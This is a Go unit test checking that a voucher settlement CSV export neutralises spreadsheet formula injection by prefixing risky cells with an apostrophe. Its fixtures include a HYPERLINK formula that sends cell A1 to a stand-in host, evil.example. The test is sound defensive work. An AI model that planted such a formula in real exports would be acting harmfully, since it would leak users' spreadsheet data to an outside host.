package voucher

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestSettlementCSVHasNoFormulas: a provider or program name that a
// spreadsheet would evaluate (=, +, -, @, tab, carriage return first) is
// exported as text, in every row it appears in; other cells are untouched.
func TestSettlementCSVHasNoFormulas(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"}
	for _, name := range hostile {
		st := &Settlement{ProviderName: name, Month: "2026-11", Status: "OPEN", RedemptionCount: 1, TotalFen: 1500,
			Lines: []*SettlementLine{{ProgramCode: "JJ", ProgramName: name, Category: Meal, RedemptionCount: 1, TotalFen: 1500}}}
		var b bytes.Buffer
		if err := WriteCSV(&b, st); err != nil {
			t.Fatal(err)
		}
		if !bytes.HasPrefix(b.Bytes(), []byte("\xef\xbb\xbf服务商,")) {
			t.Fatalf("the export does not start with a UTF-8 byte-order mark and Chinese headings: %q", b.String()[:20])
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 3 {
			t.Fatalf("%d rows", len(rows))
		}
		for _, row := range rows[1:] {
			if row[0] != "'"+name {
				t.Errorf("provider cell %q exported as %q", name, row[0])
			}
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %q would be a formula", cell)
				}
			}
		}
		if rows[1][4] != "'"+name || rows[1][5] != "助餐" || rows[1][2] != "未确认" || rows[1][7] != "1500" || rows[1][8] != "15.00" || rows[2][4] != "合计" {
			t.Errorf("line row %q", rows[1])
		}
	}
	if got := csvCell("春熙路助餐点"); got != "春熙路助餐点" {
		t.Errorf("a plain name became %q", got)
	}
}
